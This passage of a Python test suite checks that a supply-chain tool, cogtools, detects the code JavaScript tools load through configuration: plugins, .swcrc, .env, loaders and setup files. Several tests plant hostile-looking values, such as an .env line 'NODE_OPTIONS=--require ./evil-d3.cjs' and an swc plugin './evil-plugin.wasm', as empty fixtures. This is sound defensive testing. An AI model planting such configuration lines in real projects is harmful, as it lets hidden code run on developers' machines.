        ("prettier", "prettier-plugin-evil"),  # (prettier 2 loads each installed: its MAJOR-13)
        ("remark", "remark-preset-lint-recommended"),  # (named `preset-lint-recommended`: its MAJOR-14)
        ("textlint", "textlint-rule-no-todo"),  # (named `no-todo`, a key: its MAJOR-14)
    ],
)
def test_an_installed_package_named_after_a_tool_is_its_code(tmp_path: Path, program: str, named: str) -> None:
    """A tool may load the installed packages named after it by its plugin convention, with no
    word of its configuration naming them whole (or none): each is pinned with it, so that one
    added is a change."""
    bin_program(tmp_path, program, "cli.js")
    write(tmp_path / "docs" / "a.md", "\n")
    argv = [program, "docs"]
    assert tmp_path / "node_modules" / named not in command_code(argv, tmp_path, tmp_path).files
    package(tmp_path, named)
    assert tmp_path / "node_modules" / named in command_code(argv, tmp_path, tmp_path).files
    package(tmp_path, "unrelated-plugin-x")
    assert tmp_path / "node_modules" / "unrelated-plugin-x" not in command_code(argv, tmp_path, tmp_path).files


def test_a_tool_named_with_a_hyphen_finds_its_configuration_named_without(tmp_path: Path) -> None:
    """(newcomer pass 14's MAJOR-12: html-validate reads .htmlvalidate.json and .htmlvalidate.cjs,
    root and nested, none of which cogtools named)"""
    bin_program(tmp_path, "html-validate", "cli.js")
    write(tmp_path / "html" / "sub" / "a.html", "<p>\n")
    argv = ["html-validate", "html/**/*.html"]
    write(tmp_path / ".htmlvalidate.json", '{"plugins": ["./hv-plugin.cjs"]}')
    plugin = write(tmp_path / "hv-plugin.cjs", "\n")
    assert plugin in command_code(argv, tmp_path, tmp_path).files
    assert finds(argv, tmp_path, tmp_path / "html" / "sub" / ".htmlvalidate.cjs")


def test_swc_under_jest_takes_the_swcrc_where_it_runs_and_beside_each_file(tmp_path: Path) -> None:
    """(newcomer pass 14's MAJOR-11: @swc/jest compiles each module with .swcrc, whose
    experimental plugins swc loads; the root one edited, or one planted beside the tests, ran)"""
    bin_program(tmp_path, "jest", "cli.js")
    write(tmp_path / "jt" / "a.test.js", "\n")
    write(tmp_path / ".swcrc", '{"jsc": {"experimental": {"plugins": [["./evil-plugin.wasm", {}]]}}}')
    plugin = write(tmp_path / "evil-plugin.wasm", "\n")
    code = command_code(["jest"], tmp_path, tmp_path)
    assert {tmp_path / ".swcrc", plugin} <= set(code.files), code.files
    assert finds(["jest"], tmp_path, tmp_path / "jt" / ".swcrc", "{}")


def test_a_module_a_configuration_computes_under_a_directory_needs_that_directory_declared(tmp_path: Path) -> None:
    """(newcomer pass 14's MAJOR-6: `require("./eslint-rules/" + f)` was open with no place, so
    the tool's `code: [node_modules/eslint/]` closed it, and a rule file edited or added ran)"""
    from cogtools.trust.pins import declares

    eslint(tmp_path, "10.0.0")
    write(
        tmp_path / "eslint.dyn.config.js",
        'const fs = require("fs");\nconst rules = fs.readdirSync("eslint-rules").map((f) => require("./eslint-rules/" + f));\n'
        "module.exports = [{ plugins: { dyn: { rules } } }];\n",
    )
    write(tmp_path / "eslint-rules" / "no-foo.js", "module.exports = {};\n")
    code = command_code(["eslint", "-c", "eslint.dyn.config.js", "src"], tmp_path, tmp_path)
    [(why, needs)] = [(why, needs) for why, needs in code.open if "names only when it runs" in why]
    assert needs == "eslint-rules", code.open
    assert not declares(["node_modules/eslint/"], needs) and declares(["node_modules/eslint/", "eslint-rules/"], needs)


def test_a_path_a_jest_configuration_joins_of_its_directory_is_followed(tmp_path: Path) -> None:
    """(newcomer pass 14's MAJOR-7: `setupFiles: [path.join(__dirname, "jt", "setup-comp.js")]`
    was neither followed nor open: the setup file ran edited)"""
    bin_program(tmp_path, "jest", "cli.js")
    write(
        tmp_path / "jest.comp.config.js",
        'const path = require("path");\nmodule.exports = { setupFiles: [path.join(__dirname, "jt", "setup-comp.js")] };\n',
    )
    setup = write(tmp_path / "jt" / "setup-comp.js", "require('./helper.js');\n")
    helper = write(tmp_path / "jt" / "helper.js", "\n")
    files = command_code(["jest", "--config", "jest.comp.config.js"], tmp_path, tmp_path).files
    assert {setup, helper} <= set(files), files


def test_a_configuration_that_loads_dotenv_makes_its_environment_files_code(tmp_path: Path) -> None:
    """(newcomer pass 14's MAJOR-8: a jest configuration calling require("dotenv").config() loads
    .env, whose NODE_OPTIONS=--require preloads a file in every jest worker: neither was pinned)"""
    bin_program(tmp_path, "jest", "cli.js")
    package(tmp_path, "dotenv")
    write(
        tmp_path / "jest.env.config.js", 'require("dotenv").config({quiet: true});\nmodule.exports = {maxWorkers: 2};\n'
    )
    argv = ["jest", "--config", "jest.env.config.js"]
    assert tmp_path / ".env" in command_code(argv, tmp_path, tmp_path).files  # (named while missing)
    write(tmp_path / ".env", "NODE_OPTIONS=--require ./evil-d3.cjs\n")
    evil = write(tmp_path / "evil-d3.cjs", "\n")
    assert evil in command_code(argv, tmp_path, tmp_path).files


@pytest.mark.parametrize(
    ("program", "planted"), [("gulp", "gulpfile.js"), ("grunt", "Gruntfile.js"), ("gulp", "gulpfile.mjs")]
)
def test_a_task_runners_file_is_its_code(tmp_path: Path, program: str, planted: str) -> None:
    """(newcomer pass 14's MAJOR-15: gulpfile.js and Gruntfile.js, by the NAMEfile convention
    make's Makefile has, were not pinned; the tasks they define ran edited)"""
    bin_program(tmp_path, program, "cli.js")
    write(tmp_path / planted, "require('./tasks/build.js');\n")
    build = write(tmp_path / "tasks" / "build.js", "\n")
    assert {tmp_path / planted, build} <= set(command_code([program, "build"], tmp_path, tmp_path).files)


def test_a_change_names_the_file_before_the_package_it_leads_to() -> None:
    """(newcomer pass 14's MINOR-4: an absolute --require in the workspace root's .npmrc was told
    as "it now runs ../../", the workspace root's package, not as the .npmrc)"""
    from cogtools.trust.pins import _closure_change

    before = {"files": {"../../.npmrc": None}, "settings": {}}
    now = {"files": {"../../.npmrc": "d1", "../../": "root@1.0.0 sha256:x"}, "settings": {}}
    assert _closure_change(before, now) == "it now runs ../../.npmrc"
    # (newcomer pass 15: an .npmrc there before, changed, still came after the package)
    changed = {"files": {"../../.npmrc": "d0"}, "settings": {}}
    assert _closure_change(changed, now) == "../../.npmrc, which it loads, changed"


def test_a_package_an_install_moved_is_told_by_where_it_loads_it_now() -> None:
    """(newcomer pass 14's MINOR-7: `yarn add -D chai` moved vitest's chai 5 under @vitest/expect;
    the refusal said only "it no longer runs node_modules/chai/ as it did: what leads to it changed")"""
    from cogtools.trust.pins import _closure_change

    before = {"files": {"node_modules/chai/": "chai@5.1.0 sha256:a"}, "settings": {}}
    now = {"files": {"node_modules/@vitest/expect/node_modules/chai/": "chai@5.1.0 sha256:a"}, "settings": {}}
    assert _closure_change(before, now) == (
        "it now loads chai from node_modules/@vitest/expect/node_modules/chai/ (chai@5.1.0), where it loaded"
        " node_modules/chai/ (chai@5.1.0): an install moved it"
    )
    fresh = {"files": {"node_modules/chai/": "chai@5.1.0 sha256:a", "node_modules/x/": "x@1 sha256:b"}, "settings": {}}
    assert _closure_change(before, fresh) == "it now runs node_modules/x/"


@pytest.mark.parametrize(
    ("program", "planted"),
    [
        ("karma", "karma.conf.js"),
        ("wdio", "wdio.conf.ts"),
        ("semantic-release", "release.config.js"),
        ("storybook", ".storybook/main.ts"),
        ("nuxi", "nuxt.config.ts"),
        ("vue-cli-service", "vue.config.js"),
        ("lhci", "lighthouserc.js"),
        ("relay-compiler", "relay.config.js"),
    ],
)
def test_a_tools_configuration_by_its_other_conventions_is_its_code(tmp_path: Path, program: str, planted: str) -> None:
    """karma's and webdriverio's NAME.conf.js, semantic-release's release.config.js (cosmiconfig's
    `release`), storybook's .storybook/main.ts: each loaded as code, each followed."""
    bin_program(tmp_path, program, "cli.js")
    write(tmp_path / planted, "require('./more.js');\n")
    more = write((tmp_path / planted).parent / "more.js", "\n")
    assert {tmp_path / planted, more} <= set(command_code([program], tmp_path, tmp_path).files)


@pytest.mark.parametrize(
    ("package_name", "program", "planted"),
    [
        ("gatsby", "gatsby", "gatsby-config.js"),
        ("@electron-forge/cli", "electron-forge", "forge.config.js"),
        ("xo", "xo", ".xo-config.js"),
        ("unbuild", "unbuild", "build.config.ts"),
        ("jasmine", "jasmine", "spec/support/jasmine.json"),
        ("@stryker-mutator/core", "stryker", ".stryker.conf.js"),
        ("@storybook/cli", "sb", ".storybook/main.js"),  # (a scope's: @storybook/)
        ("pm2", "pm2", "ecosystem.config.js"),
    ],
)
def test_a_configuration_named_by_no_convention_is_known_from_knips_table(
    tmp_path: Path, package_name: str, program: str, planted: str
) -> None:
    """A tool whose configuration follows no convention of its name (gatsby-config.js,
    forge.config.js, .czrc): the table cogtools keeps of knip's plugins names it, for a project
    with no knip installed; written, it is code, and what it names is followed."""
    bin_program(tmp_path, package_name, "cli.js", program)
    config = tmp_path / planted
    write(tmp_path / "more.js", "\n")  # (a module from the file that requires it; a JSON's from where it runs)
    write(
        config,
        '{"requires": ["./more.js"]}'
        if planted.endswith("json")
        else f"require('{'../' * planted.count('/') or './'}more.js');\n",
    )
    files = {Path(os.path.normpath(path)) for path in command_code([program], tmp_path, tmp_path).files}
    assert {config, tmp_path / "more.js"} <= files


def test_knips_table_of_plugins_is_read_as_knip_writes_it(tmp_path: Path) -> None:
    """The parts of a plugin of knip that cogtools reads, at run time from an installed knip and
    for its own copy of the table (scripts/knip_table.py): the packages that enable it, a
    scope's by its pattern, and the files it loads."""
    from cogtools.run.program_files import knip_enablers, knip_plugin

    text = (
        "const title = 'Stryker';\n"
        "const enablers = ['@stryker-mutator/core', /^@nrwl\\//, /^@nestjs\\/.*/, /^@playwright\\/ct-/];\n"
        "const config = ['?(.)stryker.conf.{js,json}', 'package.json', '{apps,libs}/**/project.json',"
        " ...toCosmiconfig('stryker'), ...toUnconfig('s.config'), '../escape.js'];\n"
    )
    assert knip_enablers(text) == ["@stryker-mutator/core", "@nrwl/", "@nestjs/"]
    plugin = knip_plugin(text)
    unconfig = (f"s.config{suffix}" for suffix in (".json", ".ts", ".mts", ".cts", ".js", ".mjs", ".cjs"))
    conf = ("stryker.conf.js", "stryker.conf.json", ".stryker.conf.js", ".stryker.conf.json")
    assert plugin.names == (*unconfig, *conf)
    assert plugin.stems == ("stryker",)
    assert knip_enablers("const enablers = 'This plugin is enabled when a Taskfile is found';\n") == []


def test_the_table_of_tools_configurations_is_written_from_knips_plugins(tmp_path: Path) -> None:
    """scripts/knip_table.py writes the module cogtools ships (cogtools/run/tool_configs.py) from
    an unpacked knip: each enabler of each plugin that names a configuration, sorted."""
    import ast
    import subprocess
    import sys

    knip = tmp_path / "package"
    write(knip / "package.json", json.dumps({"name": "knip", "version": "9.9.9"}))
    write(
        knip / "dist" / "plugins" / "gatsby" / "index.js",
        "const enablers = ['gatsby', 'gatsby-cli'];\nconst config = ['gatsby-{config,node}.js'];\n",
    )
    write(
        knip / "dist" / "plugins" / "nx" / "index.js",
        "const enablers = ['nx', /^@nx\\//];\nconst config = ['nx.json', ...toCosmiconfig('nx')];\n",
    )
    write(knip / "dist" / "plugins" / "none" / "index.js", "const enablers = ['none'];\nconst entry = ['x.js'];\n")
    script = Path(__file__).resolve().parent.parent / "scripts" / "knip_table.py"
    done = subprocess.run([sys.executable, str(script), str(knip)], capture_output=True, text=True, check=True)
    assert "Generated from knip 9.9.9's table" in done.stdout
    table = ast.literal_eval(done.stdout.partition("= ")[2])
    assert table == {
        "gatsby": (("gatsby", "gatsby-cli"), ("gatsby-config.js", "gatsby-node.js"), ()),
        "nx": (("nx", "@nx/"), ("nx.json",), ("nx",)),
    }


def test_the_table_of_tools_configurations_holds_only_names_of_the_workspace() -> None:
    """The shipped copy of knip's table: each key a package (or a scope), each name a path under
    where the tool runs (never absolute, never up), each stem a plain name."""
    from cogtools.run.program_files import PACKAGE_NAME
    from cogtools.run.tool_configs import PLUGINS

    assert len(PLUGINS) > 90
    for plugin, (enablers, names, stems) in PLUGINS.items():
        assert enablers and all(PACKAGE_NAME.fullmatch(e) or re.fullmatch(r"@[\w.-]+/", e) for e in enablers), plugin
        assert all(name and not os.path.isabs(name) and ".." not in name.split("/") for name in names), plugin
        assert all("." in name or "/" in name for name in names), plugin  # (attack11's MINOR-G: no bare `yml`)
        assert all(re.fullmatch(r"[\w.-]+", stem) for stem in stems), plugin


@pytest.mark.slow  # (2,050 directories)
def test_a_tool_cogtools_knows_nothing_of_past_the_bound_is_open_on_the_persons_word(tmp_path: Path) -> None:
    """Whether such a tool looks below where it runs is a guess: past 2,048 directories it is
    open, and its `code:` declaration closes that on the person's word (sync says so)."""
    from cogtools.trust.pins import declares

    bin_program(tmp_path, "oxlint", "cli.js")
    for n in range(2050):
        (tmp_path / "src" / f"d{n}").mkdir(parents=True)
    [(why, needs)] = command_code(["oxlint", "src"], tmp_path, tmp_path).open[1:]
    assert "may look for its configuration from each file it reads, but in more than 2048" in why
    assert needs is None and declares(["node_modules/oxlint/"], needs)


def test_a_directory_a_configuration_resolves_modules_from_needs_declaring(tmp_path: Path) -> None:
    """(newcomer pass 15's NEW-MAJOR-2: webpack's resolveLoader.modules named ./loaders, whose
    bare-loader.js a rule names as "bare-loader"; edited, it ran under a pinned webpack)"""
    from cogtools.trust.pins import declares

    bin_program(tmp_path, "webpack", "cli.js")
    write(
        tmp_path / "webpack.config.js",
        'const path = require("path");\nmodule.exports = { resolveLoader: { modules: ["node_modules",'
        ' path.resolve(__dirname, "loaders")] }, module: { rules: [{ use: ["bare-loader"] }] } };\n',
    )
    write(tmp_path / "loaders" / "bare-loader.js", "\n")
    [(why, needs)] = [o for o in command_code(["webpack"], tmp_path, tmp_path).open if "resolves modules" in o[0]]
    assert needs == "loaders" and declares(["node_modules/webpack/", "loaders/"], needs), why


@pytest.mark.parametrize(
    ("program", "config", "text", "named"),
    [
        ("commitlint", "commitlint.config.js", 'module.exports = { extends: ["@acme"] };\n', "@acme/commitlint-config"),
        ("browserslist", ".browserslistrc", "extends @acme/browserslist-config\n> 1%\n", "@acme/browserslist-config"),
    ],
)
def test_a_shared_configuration_by_its_shorthand_or_an_extends_line_is_pinned(
    tmp_path: Path, program: str, config: str, text: str, named: str
) -> None:
    """(newcomer pass 15's NEW-MAJOR-3 and 4: commitlint's `extends: ["@acme"]` loads
    @acme/commitlint-config; .browserslistrc's `extends @acme/browserslist-config` requires it)"""
    bin_program(tmp_path, program, "cli.js")
    write(tmp_path / config, text)
    shared = package(tmp_path, named)
    assert shared in command_code([program], tmp_path, tmp_path).files


def test_a_tools_own_definition_named_after_its_program_is_not_its_configuration(tmp_path: Path) -> None:
    """(newcomer pass 15's MINOR-A: tools/mocha.yaml, the tool's definition, was taken for a mocha
    configuration beside the files mocha reads: sync said "it now runs tools/mocha.yaml")"""
    bin_program(tmp_path, "mocha", "cli.js")
    write(tmp_path / "tools" / "mocha.yaml", "description: x\n")
    assert tmp_path / "tools" / "mocha.yaml" not in command_code(["mocha"], tmp_path, tmp_path).files
    assert finds(["mocha"], tmp_path, tmp_path / "tools" / ".mocharc.yml", "{}")


def test_a_package_json_read_one_way_is_told_in_words() -> None:
    """(newcomer pass 15's MINOR-7: "it no longer runs local-plugin/package.json#config:eslintConfig
    as it did": the pin's own notation, which says nothing to a person)"""
    from cogtools.trust.pins import _closure_change

    before = {"files": {"package.json#run:lint": "d0"}, "settings": {}}
    now = {"files": {"package.json#run:lint": "d1"}, "settings": {}}
    assert _closure_change(before, now) == "package.json (its scripts lint), which it loads, changed"
    now = {"files": {"package.json#run:lint": "d0", "p/package.json#load+config:babel,jest": "d2"}, "settings": {}}
    assert _closure_change(before, now) == "it now runs p/package.json (what node reads of it; its babel, jest)"


def test_a_json_configuration_knip_reads_is_data_to_it(tmp_path: Path) -> None:
    """(newcomer pass 14's MINOR-2: an edit of tsconfig.json re-asked knip, which reads it as JSON;
    what it names stays followed)"""
    from cogtools.trust.pins import manifest_reads

    bin_program(tmp_path, "knip", "bin/knip.js")
    write(
        tmp_path / "node_modules" / "knip" / "dist" / "plugins" / "typescript" / "index.js",
        "const config = ['tsconfig.json'];\n",
    )
    write(tmp_path / "tsconfig.json", '{"extends": "./tsconfig.base.json"}')
    base = write(tmp_path / "tsconfig.base.json", "{}")
    code = command_code(["knip"], tmp_path, tmp_path)
    assert base in code.files
    assert manifest_reads(code.manifests)[tmp_path / "tsconfig.json"][0] == "#data"


@pytest.mark.parametrize(
    ("eslintrc", "named"),
    [
        ('{"plugins": ["@acme"]}', "@acme/eslint-plugin"),
        ('{"extends": ["@acme"]}', "@acme/eslint-config"),
        ('{"extends": ["plugin:@acme/recommended"]}', "@acme/eslint-plugin"),
        ('{"extends": ["plugin:@acme/foo/recommended"]}', "@acme/eslint-plugin-foo"),
    ],
)
def test_eslints_scope_shorthands_name_their_packages(tmp_path: Path, eslintrc: str, named: str) -> None:
    """(newcomer pass 15's NEW-MAJOR-7: `@acme` for @acme/eslint-plugin or @acme/eslint-config, as
    most companies publish their shared configuration, was not followed; edited, it ran)"""
    eslint(tmp_path, "8.57.1")
    write(tmp_path / ".eslintrc.json", eslintrc)
    shared = package(tmp_path, named)
    assert shared in command_code(["eslint", "src"], tmp_path, tmp_path).files


# --- attacker pass 10 over looks (/tmp/work/attack10.md) -------------------------------------


def test_a_directory_or_fifo_at_a_looks_name_is_found_and_read_as_nothing(tmp_path: Path) -> None:
    """(attack10's MAJOR-7: a directory at a look's name crashed every call, sync and lint with
    IsADirectoryError)"""
    bin_program(tmp_path, "zlint", "cli.js")
    (tmp_path / "src" / "sub" / ".zlintrc.js").mkdir(parents=True)
    os.mkfifo(tmp_path / "src" / ".zlintrc.cjs")
    code = command_code(["zlint"], tmp_path, tmp_path)
    found = {path for _, paths in code.looks for path in paths}
    assert {tmp_path / "src" / "sub" / ".zlintrc.js", tmp_path / "src" / ".zlintrc.cjs"} <= found
    assert tmp_path / "src" / "sub" / ".zlintrc.js" not in code.files  # (no configuration to read)


def test_a_directory_cogtools_cannot_list_leaves_a_look_open(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """(attack10's MAJOR-3: as a user, a directory of mode 0311 cannot be listed but can be
    searched: node opened a planted config there by name, while the look took it for empty)"""
    bin_program(tmp_path, "zlint", "cli.js")
    hidden = tmp_path / "src" / "sub"
    hidden.mkdir(parents=True)
    scandir = os.scandir

    def refusing(path: t.Any) -> t.Any:
        if Path(path) == hidden:
            raise PermissionError(13, "Permission denied", str(path))
        return scandir(path)

    monkeypatch.setattr(os, "scandir", refusing)
    whys = [why for why, _ in command_code(["zlint"], tmp_path, tmp_path).open]
    assert any("cogtools cannot list src/sub" in why for why in whys), whys


def test_a_link_to_a_directory_is_walked_where_it_leads_and_one_leading_out_is_open(tmp_path: Path) -> None:
    """(attack10's MAJOR-4: src/lib -> ../node_modules/stash, whose deep/.zlintrc.js a tool
    following links loads, was looked in but never below)"""
    bin_program(tmp_path, "zlint", "cli.js")
    write(tmp_path / "node_modules" / "stash" / "deep" / "a.md", "\n")
    (tmp_path / "src").mkdir()
    os.symlink("../node_modules/stash", tmp_path / "src" / "lib")
    write(tmp_path / "node_modules" / "stash" / "deep" / ".zlintrc.js", "\n")
    code = command_code(["zlint"], tmp_path, tmp_path)
    assert tmp_path / "src" / "lib" / "deep" / ".zlintrc.js" in code.files, code.files
    (tmp_path / "outside").mkdir()
    project = tmp_path / "p"
    bin_program(project, "zlint", "cli.js")
    os.makedirs(project / "src")
    os.symlink(tmp_path / "outside", project / "src" / "out")
    whys = [why for why, _ in command_code(["zlint"], project, project).open]
    assert any("src/out leads out of the workspace" in why for why in whys), whys


def test_a_walk_reads_a_bounded_number_of_entries(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """(attack10's MAJOR-6: 700,000 links in one directory made each call of an unknown tool take
    16 s: the walk bounded directories, not entries)"""
    from cogtools.run import program_files

    monkeypatch.setattr(program_files, "MAX_WALK_ENTRIES", 50)
    bin_program(tmp_path, "zlint", "cli.js")
    for n in range(60):
        write(tmp_path / "src" / "many" / f"f{n}", "")
    whys = [why for why, needs in command_code(["zlint"], tmp_path, tmp_path).open if needs is None]
    assert any("more than 50 entries are under ." in why for why in whys), whys


def test_a_configuration_importing_its_own_package_by_name_follows_the_exports(tmp_path: Path) -> None:
    """(newcomer pass 15's NEW-MAJOR-8: rollup.config.mjs `import extra from "p5/extra"`, its own
    package's export: open on the person's word, so the file it maps to ran edited)"""
    bin_program(tmp_path, "rollup", "cli.js")
    exports = {
        ".": {"import": "./index.mjs"},
        "./extra": {"import": "./rollup-plugins/extra.mjs", "default": "./x.cjs"},
    }
    write(tmp_path / "package.json", json.dumps({"name": "p5", "type": "module", "exports": exports}))
    extra = write(tmp_path / "rollup-plugins" / "extra.mjs", "import './helper.mjs';\nexport default 1;\n")
    helper = write(tmp_path / "rollup-plugins" / "helper.mjs", "\n")
    index = write(tmp_path / "index.mjs", "\n")
    write(tmp_path / "x.cjs", "\n")
    write(tmp_path / "rollup.config.mjs", 'import extra from "p5/extra";\nimport p from "p5";\nexport default {};\n')
    code = command_code(["rollup", "-c"], tmp_path, tmp_path)
    assert {extra, helper, index, tmp_path / "x.cjs"} <= set(code.files) and not code.open[1:], code


def test_svelte_check_loads_svelte_config(tmp_path: Path) -> None:
    """(newcomer pass 15's NEW-MAJOR-11: svelte-check imports svelte.config.js, svelte's name)"""
    bin_program(tmp_path, "svelte-check", "cli.js")
    config = write(tmp_path / "svelte.config.js", "\n")
    assert config in command_code(["svelte-check", "--workspace", "src"], tmp_path, tmp_path).files


def test_what_a_build_tool_bundles_or_is_given_is_its_input_not_its_code(tmp_path: Path) -> None:
    """(newcomer pass 15's NEW-MAJOR-9: webpack's entry, rollup's input and output, tsup's and
    postcss's files were pinned as code they load: every source edit and every rebuild re-asked)"""
    for program in ("webpack", "rollup", "tsup", "postcss"):
        bin_program(tmp_path, program, "cli.js")
    write(
        tmp_path / "webpack.config.js",
        'const path = require("path");\nmodule.exports = {\n  entry: { main: "./src/math.js", other: ["./src/b.js"] },\n'
        '  output: { path: path.resolve(__dirname, "dist"), filename: "bundle.js" },\n'
        '  module: { rules: [{ test: /\\.js$/, use: [path.resolve(__dirname, "loaders/pass-loader.js")] }] },\n};\n',
    )
    write(
        tmp_path / "rollup.config.mjs", 'export default { input: "src/esm.mjs", output: { file: "dist/out.mjs" } };\n'
    )
    sources = [
        write(tmp_path / name, "\n")
        for name in ("src/math.js", "src/b.js", "src/esm.mjs", "dist/out.mjs", "src/lib.js")
    ]
    loader = write(tmp_path / "loaders" / "pass-loader.js", "\n")
    write(tmp_path / "css" / "b.css", "a{}\n")
    files = set(command_code(["webpack"], tmp_path, tmp_path).files)
    assert loader in files and not files & set(sources), files
    for argv in (["rollup", "-c"], ["tsup", "src/lib.js", "--out-dir", "out"], ["postcss", "css/b.css"]):
        files = set(command_code(argv, tmp_path, tmp_path).files)
        assert not files & {*sources, tmp_path / "css" / "b.css"}, (argv, files)


@pytest.mark.parametrize(
    "config",
    [
        # (attack11's H: another binding of the name than the one cogtools took)
        'const L = path.resolve(__dirname, "loaders");\nmodule.exports = ((L) => ({ resolveLoader: { modules: [L] } }))("ld");\n',
        'const L = path.resolve(__dirname, "loaders");\nconst { L: M } = {};\nfor (const L of ["ld"]) module.exports = { resolveLoader: { modules: [L] } };\n',
        'const L = path.resolve(__dirname, "loaders");\ntry { x() } catch (L) { module.exports = { resolveLoader: { modules: [L] } } }\n',
        'const L = path.resolve(__dirname, "loaders");\nconst \\u004c2 = 1;\nmodule.exports = { resolveLoader: { modules: [L] } };\n',
        # (H2: a list given otherwise)
        'const c = { resolveLoader: {} };\nc.resolveLoader.modules = ["node_modules"];\nc.resolveLoader.modules.push(x);\nmodule.exports = c;\n',
        "const DIRS = compute();\nmodule.exports = { resolveLoader: { modules: DIRS } };\n",
        "const modules = compute();\nmodule.exports = { resolveLoader: { modules } };\n",
        "module.exports = { resolveLoader: { 'modules': [x] } };\n",
    ],
)
def test_module_directories_given_otherwise_are_computed(tmp_path: Path, config: str) -> None:
    """(attack11's H, H2: shadowed names, a list pushed to, a list's name, a shorthand: each
    resolved loaders from a directory no declaration covered)"""
    bin_program(tmp_path, "webpack", "cli.js")
    (tmp_path / "loaders").mkdir()
    write(tmp_path / "webpack.config.js", 'const path = require("path");\n' + config)
    open_ = command_code(["webpack"], tmp_path, tmp_path).open
    assert any("from a directory it computes" in why and needs is None for why, needs in open_), open_
    assert not any(needs == "loaders" for _, needs in open_), open_


def test_css_modules_are_no_module_directories(tmp_path: Path) -> None:
    bin_program(tmp_path, "webpack", "cli.js")
    write(
        tmp_path / "webpack.config.js",
        "module.exports = { module: { rules: [{ use: [{ loader: 'css-loader', options: { modules: true } }] },"
        " { use: [{ loader: 'css-loader', options: { modules: { auto: true } } }] }] } };\n",
    )
    assert not [why for why, _ in command_code(["webpack"], tmp_path, tmp_path).open if "resolves modules" in why]


@pytest.mark.parametrize(
    ("binding", "needs"),
    [
        ('const LOADERS = path.resolve(__dirname, "loaders");\n', "loaders"),
        ("const LOADERS = 'loaders'\n", "loaders"),
        ('let LOADERS = path.resolve(__dirname, "loaders");\nif (process.env.CI) LOADERS = process.env.CI;\n', None),
        ('let LOADERS = "loaders";\nLOADERS += process.env.SUFFIX;\n', None),
        ("const LOADERS = process.env.LOADERS;\n", None),
    ],
)
def test_a_directory_a_configuration_names_by_a_constant_needs_declaring_and_one_it_computes_is_open(
    tmp_path: Path, binding: str, needs: str | None
) -> None:
    """(attack10's MAJOR-9: `modules: ["node_modules", LOADERS]`, a name for path.resolve(...),
    bypassed the mend of NEW-MAJOR-2: real webpack 5 ran the edited bare-loader.js; then it was
    open on the person's word, which any `code:` gave: a constant bound once is the directory,
    to declare; a name it assigns again or computes stays on the person's word)"""
    bin_program(tmp_path, "webpack", "cli.js")
    write(
        tmp_path / "webpack.config.js",
        'const path = require("path");\n' + binding + "module.exports = { resolveLoader: { modules: ["
        '"node_modules", LOADERS] } };\n',
    )
    write(tmp_path / "loaders" / "bare-loader.js", "\n")
    found = [needs for why, needs in command_code(["webpack"], tmp_path, tmp_path).open if "resolves modules" in why]
    assert found == [needs], found


def test_a_tool_cogtools_knows_nothing_of_is_looked_for_under_the_directories_it_is_given(tmp_path: Path) -> None:
    """(attack10's MAJOR-10: cwd packages/a, given ../b: a planted packages/b/sub/.zlintrc.js ran)"""
    bin_program(tmp_path, "zlint", "cli.js")
    write(tmp_path / "packages" / "b" / "sub" / "x.js", "\n")
    (tmp_path / "packages" / "a").mkdir()
    argv = ["zlint", ".", "../b"]
    planted = tmp_path / "packages" / "b" / "sub" / ".zlintrc.js"
    assert tmp_path / "packages" / "b" / "sub" not in [
        p.parent for p in command_code(argv, tmp_path / "packages" / "a", tmp_path).files
    ]
    write(planted, "\n")
    assert planted in command_code(argv, tmp_path / "packages" / "a", tmp_path).files


@pytest.mark.parametrize(
    ("program", "config", "text"),
    [
        ("ava", "ava.config.mjs", 'export default { nodeArguments: ["--require=./t/register.cjs"] };\n'),
        ("mocha", ".mocharc.yml", 'spec: "test/**/*.test.js"\nnode-option:\n  - "require=./t/register.cjs"\n'),
        (
            "vitest",
            "vitest.config.mjs",
            "export default { test: { poolOptions: { forks: { execArgv: ['-r ./t/register.cjs'] } } } };\n",
        ),
        ("ava", "ava.config.mjs", 'export default { nodeArguments: ["--import=./t/register.cjs"] };\n'),
    ],
)
def test_a_node_option_a_configuration_gives_as_one_word_is_followed(
    tmp_path: Path, program: str, config: str, text: str
) -> None:
    """(newcomer pass 17's MAJOR-1: ava's nodeArguments, mocha's node-option and vitest's execArgv
    give node `--require=./x.cjs` as one word: the file it preloads in each worker was not pinned)"""
    bin_program(tmp_path, program, "cli.js")
    write(tmp_path / config, text)
    register = write(tmp_path / "t" / "register.cjs", "require('./more.cjs');\n")
    more = write(tmp_path / "t" / "more.cjs", "\n")
    assert {register, more} <= set(command_code([program], tmp_path, tmp_path).files)


@pytest.mark.parametrize(
    ("config", "named"),
    [
        ('module.exports = { runner: "nc17" };\n', "jest-runner-nc17"),
        ('module.exports = { watchPlugins: ["typeahead/filename"] };\n', "jest-watch-typeahead"),
    ],
)
def test_a_package_jest_names_by_its_shorthand_is_pinned(tmp_path: Path, config: str, named: str) -> None:
    """(newcomer pass 17's MAJOR-7: jest's `runner: "nc17"` loads jest-runner-nc17, not pinned)"""
    bin_program(tmp_path, "jest", "cli.js")
    write(tmp_path / "jest.config.js", config)
    runner = package(tmp_path, named, {"index.js": "\n", "filename.js": "\n"})
    assert runner in command_code(["jest"], tmp_path, tmp_path).files


@pytest.mark.parametrize(
    ("argv", "config", "text"),
    [
        (["mocha", "--no-config", "test/math.test.js"], "", ""),
        (["jest", "--ci", "test/math.test.js"], "", ""),
        (["vitest", "run", "test/math.test.js"], "", ""),
        (["mocha"], ".mocharc.yml", 'spec: "test/math.test.js"\nrequire: ./test/setup.js\n'),
        (["mocha"], ".mocharc", "spec = test/math.test.js\nrequire = ./test/setup.js\n"),
        (["mocha"], ".mocharc.json", '{"spec": ["test/math.test.js"], "require": "./test/setup.js"}'),
    ],
)
def test_the_tests_a_test_runner_is_given_are_its_input(
    tmp_path: Path, argv: list[str], config: str, text: str
) -> None:
    """(newcomer pass 17's MAJOR-6: a test file given to mocha, jest or vitest, or in .mocharc's
    `spec`, was pinned, with the source it requires: every edit of a test or of the code it
    tests re-asked, while the tests a runner finds never do; what sets it up is its code)"""
    bin_program(tmp_path, argv[0], "cli.js")
    test = write(tmp_path / "test" / "math.test.js", "require('../src/math.js');\n")
    source = write(tmp_path / "src" / "math.js", "\n")
    setup = write(tmp_path / "test" / "setup.js", "\n")
    if config:
        write(tmp_path / config, text)
    files = set(command_code(argv, tmp_path, tmp_path).files)
    assert not files & {test, source}, files
    assert setup in files or not config


@pytest.mark.parametrize(
    ("argv", "sheet", "text", "plugin"),
    [
        (["lessc", "styles/a.less"], "styles/a.less", '@plugin "./plug.js";\n@c: red;\n', "styles/plug.js"),
